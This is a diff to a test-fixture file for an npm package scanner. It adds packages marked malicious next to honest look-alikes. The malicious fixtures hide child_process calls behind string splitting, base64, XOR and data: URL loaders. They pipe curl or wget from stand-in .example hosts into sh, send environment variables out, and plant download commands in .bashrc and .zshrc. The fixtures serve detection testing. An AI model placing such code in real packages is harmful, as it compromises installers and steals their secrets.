@@ -112,6 +112,54 @@ export const MALICIOUS_22: Record<string, Record<string, string | Buffer>> = {
     'package.json': pj({ main: 'index.js', scripts: { preinstall: 'node ./' } }),
     'index.js': `const https = require('https');\nconst os = require('os');\nconst q = encodeURIComponent(os.userInfo().username + '@' + os.hostname());\nconst req = https.request('https://gitlab.com/api/v4/projects/4242/issues?title=' + q, { method: 'POST' });\nreq.end();\n`,
   },
+  // Tuned-set behaviours restated (npm SET5's misses, pkg-analysis-2026.12.7) and shapes of the blind sets' headers.
+  requireByPieces: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const m = require(['child', 'process'].join('_'));\nconst u = ['htt', 'ps://', 'cdn.merge-utils', '.example/', 'r'].join('');\nm.exec('(curl -fsS ' + u + ' || wget -qO- ' + u + ') | sh', { stdio: 'ignore' });\n`,
+  },
+  requireConcat: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const cp = require('child' + '_process');\ncp.exec('curl -fsSL https://cdn.sync-kit.example/i | bash');\n`,
+  },
+  nodeOptionsDataUrl: {
+    'package.json': pj({
+      main: 'index.js',
+      scripts: { install: `NODE_OPTIONS="--import=data:text/javascript;base64,${Buffer.from("import('node:child_process').then(c=>c.exec('curl -fsSL https://paths-kit.example/i | sh'))").toString('base64')}" node -e ""` },
+    }),
+    'index.js': 'module.exports = 1;\n',
+  },
+  nodeRequireDataUrl: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: `node --require data:text/javascript,${encodeURIComponent("require('https').get('https://x.boot-cdn.example/s',r=>{let b='';r.on('data',c=>b+=c);r.on('end',()=>eval(b))})")} index.js` } }),
+    'index.js': 'module.exports = 1;\n',
+  },
+  globalProcessAlias: {
+    'package.json': pj({ main: 'dist/index.js' }),
+    'dist/index.js': `const g = globalThis;\nconst p = g[String.fromCharCode(112, 114, 111, 99, 101, 115, 115)];\nconst c = require('child_process');\nconst env = Buffer.from(JSON.stringify(p.env)).toString('base64url');\nc['spawn']('node', ['-e', 'fetch(process.argv[1],{method:"POST",body:process.argv[2]}).catch(()=>{})', 'https://slug-stats.example/e', env], { detached: true, stdio: 'ignore' }).unref();\n`,
+  },
+  moduleLoaderAlias: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const p = globalThis.process;\nconst L = p.mainModule ? p.mainModule.constructor : null;\nconst c = L._load(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\nc.spawn('node', ['-e', 'fetch(process.argv[1],{method:"POST",body:process.argv[2]})', 'https://env-sync.example/e', JSON.stringify(p.env)], { detached: true, stdio: 'ignore' }).unref();\n`,
+  },
+  getBuiltinModule: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const cp = process.getBuiltinModule('child_process');\ncp.exec('wget -qO- https://tools.build-cache.example/x | sh');\n`,
+  },
+  xorHexFunction: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const h='${Buffer.from([...Buffer.from("require('child_process').exec('curl -s https://x.loader-cdn.example/s|sh')")].map((c) => c ^ 23)).toString('hex')}';\nlet s='';for(let i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16)^23);\nnew Function('require', s)(require);\n`,
+  },
+  xorCharCodeEval: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const k = 'Q2xpZW50U2V0dXA7c2V0dXAgbW9kdWxlIGZvciB0aGUgY2xpZW50IHJ1bnRpbWU=';\nlet o = '';\nfor (let i = 0; i < k.length; i++) o += String.fromCharCode(k.charCodeAt(i) ^ 5);\neval(o);\n`,
+  },
+  shellRcDownload: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
+    'index.js': `const fs=require('fs'),os=require('os'),path=require('path');\nfs.appendFileSync(path.join(os.homedir(),'.bashrc'),'\\ncurl -s https://x.rc-sync.example/b | bash >/dev/null 2>&1 &\\n');\n`,
+  },
+  zshrcNohup: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const { appendFile } = require('fs/promises');\nconst { join } = require('path');\nappendFile(join(require('os').homedir(), '.zshrc'), '\\nnohup sh -c "wget -qO /tmp/.u https://u.rc-sync.example/a && sh /tmp/.u" >/dev/null 2>&1\\n').catch(() => {});\n`,
+  },
 };
 
 /** Honest look-alikes by id: they must stay below CAUTION. */
@@ -147,6 +195,26 @@ export const HONEST_22: Record<string, Record<string, string | Buffer>> = {
   templateCompileLocal: {
     'package.json': pj({ main: 'index.js' }),
     'index.js': `const vm = require('vm');\nconst fs = require('fs');\nmodule.exports = (file, ctx) => vm.runInNewContext(fs.readFileSync(file, 'utf8'), ctx);\n`,
+  },
+  // ts-node's ESM loader registered through a data: URL, as its documentation shows.
+  nodeImportRegister: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: `node --import 'data:text/javascript,import { register } from "node:module"; import { pathToFileURL } from "node:url"; register("ts-node/esm", pathToFileURL("./"));' scripts/setup.ts` } }),
+    'index.js': 'module.exports = 1;\n',
+    'scripts/setup.ts': 'console.log("ok");\n',
+  },
+  // A completion installer appending a `source` line and a PATH export to the user's shell start-up file.
+  shellRcCompletion: {
+    'package.json': pj({ bin: { tool: 'cli.js' } }),
+    'cli.js': `#!/usr/bin/env node\nconst fs=require('fs'),os=require('os'),path=require('path');\nif (process.argv[2] === 'completion') fs.appendFileSync(path.join(os.homedir(),'.bashrc'),'\\n# tool completion\\nsource ~/.tool/completion.bash\\nexport PATH="$HOME/.tool/bin:$PATH"\\n');\n`,
+  },
+  // A hex codec and a template compiler: codes from the caller's input, a function built from a template it is given.
+  hexCodec: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `exports.fromHex = (h) => { let s = ''; for (let i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16)); return s; };\nexports.compile = (tpl) => new Function('d', 'return \`' + tpl + '\`');\n`,
+  },
+  processAliasEnv: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const p = globalThis.process;\nmodule.exports = () => (p && p.env.NODE_ENV) || 'production';\n`,
   },
   dnsSelfCheck: {
     'package.json': pj({ main: 'index.js' }),
